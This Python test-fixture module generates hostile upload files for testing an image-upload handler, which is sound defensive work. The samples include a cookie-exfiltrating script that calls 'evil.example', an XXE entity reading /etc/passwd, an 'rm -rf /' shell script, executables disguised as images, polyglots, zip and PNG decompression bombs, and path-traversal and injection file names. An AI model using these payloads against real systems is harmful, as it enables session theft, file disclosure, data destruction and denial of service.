"""Files that somebody may send to do harm, made here: polyglots, bombs, disguises, a camera's notes, names of paths."""

import resource
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
GPS = b"GPSLatitudeRef"
PLACE = "31 deg 13 min"


@dataclass(frozen=True, slots=True)
class Bad:
    """A file, and whether it may be kept as a picture, as a document, or not at all."""

    name: str
    content: bytes
    kept: str = ""


def picture(kind: str = "PNG", size: tuple[int, int] = (64, 48), **more: object) -> bytes:
    """A small, whole picture."""
    held = BytesIO()
    Image.new("RGB", size, (20, 120, 150)).save(held, kind, **more)
    return held.getvalue()


def located() -> bytes:
    """A photo with everything a camera writes: place, device, owner, a preview of its own."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0110], exif[0x9286], exif[0x8298] = "Kanarie", "X100", PLACE, "欧阳静怡"
    exif.get_ifd(0x8825).update({1: "N", 2: (31.0, 13.0, 0.0), 3: "E", 4: (121.0, 28.0, 0.0), 29: "2026:11:20"})
    return picture("JPEG", exif=exif, comment=b"taken at home")


def chunk(kind: bytes, body: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *more: bytes, data: bytes = b"\x00" * 1000) -> bytes:
    """A PNG that says of itself that it is so large."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def frames(count: int, kind: str) -> bytes:
    """A picture that moves for ever."""
    held, shades = BytesIO(), [Image.new("P", (32, 32), at % 250) for at in range(count)]
    shades[0].save(held, kind, save_all=True, append_images=shades[1:], duration=1, loop=0)
    return held.getvalue()


def zipped(*levels: int) -> bytes:
    """A zip in a zip: each holds so many copies of what is in it; the innermost two million zeros."""
    content = bytes(2_000_000)
    for count in levels:
        held = BytesIO()
        with ZipFile(held, "w", ZIP_DEFLATED) as archive:
            for at in range(count):
                archive.writestr(f"{at}.bin", content)
        content = held.getvalue()
    return content


def jpeg_said_to_be(width: int, height: int) -> bytes:
    """A JPEG whose head tells of a size that its body does not have."""
    content = bytearray(picture("JPEG"))
    at = content.index(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def files() -> Iterator[Bad]:
    """All of them."""
    yield from _disguised()
    yield from _polyglots()
    yield from _bombs()
    yield from _broken()
    yield from _named()


def _disguised() -> Iterator[Bad]:
    yield Bad("page.jpg", HTML)
    yield Bad("drawing.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    yield Bad("feed.png", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>')
    yield Bad("tool.jpg", b"MZ\x90\x00" + bytes(200))
    yield Bad("photo.jpg", picture("TIFF"))
    yield Bad("photo.png", picture("BMP"))
    yield Bad("photo.gif", picture("ICO"))
    yield Bad("script.png", b"#!/bin/sh\nrm -rf /\n")
    yield Bad("program.jpg", b"\x7fELF" + bytes(200))
    yield Bad("film.jpg", b"\x00\x00\x00\x18ftypmp42" + bytes(200))
    yield Bad("page.pdf.png", b"  " + HTML)


def _polyglots() -> Iterator[Bad]:
    yield Bad("comment.jpg", picture("JPEG", comment=HTML), "picture")
    yield Bad("appended.png", picture() + HTML, "picture")
    yield Bad("archive.gif", picture("GIF") + zipped(1), "picture")
    yield Bad("script.gif", b"GIF89a/*" + SCRIPT + b"*/=1;")
    yield Bad("text.png", png(8, 8, chunk(b"tEXt", b"Comment\x00" + HTML), data=bytes(8 * 25)), "picture")
    yield Bad("page.pdf", b"%PDF-1.4\n" + HTML, "document")
    yield Bad("js.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", "document")


def _bombs() -> Iterator[Bad]:
    yield Bad("65500.png", png(65_500, 65_500))
    yield Bad("wide.png", png(60_000_001, 1))
    yield Bad("65500.jpg", jpeg_said_to_be(65_500, 65_500))
    yield Bad("words.png", png(8, 8, chunk(b"zTXt", b"a\x00\x00" + zlib.compress(bytes(80_000_000))), data=bytes(200)))
    yield Bad("film.gif", frames(300, "GIF"), "picture")
    yield Bad("film.webp", frames(50, "WEBP"), "picture")
    yield Bad("42.zip", zipped(8, 8, 8), "document")


def _broken() -> Iterator[Bad]:
    yield Bad("nothing.jpg", b"")
    yield Bad("one.jpg", b"\xff")
    yield Bad("cut.jpg", picture("JPEG", (640, 480))[:900])
    yield Bad("cut.png", picture()[:-30])
    yield Bad("crc.png", picture().replace(b"IDAT", b"IDAX"))
    yield Bad("lies.webp", b"RIFF\xff\xff\xff\x7fWEBPVP8 " + bytes(60))
    yield Bad("voice.amr", b"#!AMR\n" + bytes(20), "document")
    yield Bad("photo.heic", b"\x00\x00\x00\x18ftypheic" + bytes(60), "document")


def _named() -> Iterator[Bad]:
    yield Bad("located.jpg", located(), "picture")
    for name in ("../../etc/passwd.png", "..\\..\\boot.png", "/etc/cron.d/x.png", "a\x00.html", "con.png\r\nX: y",
                 "\u202egnp.exe", "长" * 400 + ".png", "<img src=x onerror=alert(1)>.png"):  # fmt: skip
        yield Bad(name, picture(size=(16, 16)), "picture")


def measured(place: str) -> None:
    """Look at all of them in this process, and write down by how many MiB it grew at most."""
    from handlers import uploads
    from handlers.events import Upload

    made = [Upload(bad.name, "", bad.content) for bad in files()]
    uploads.looked_at(Upload("warm.png", "", picture()))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for each in made:
        uploads.looked_at(each)
    Path(place).write_text(str((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024))
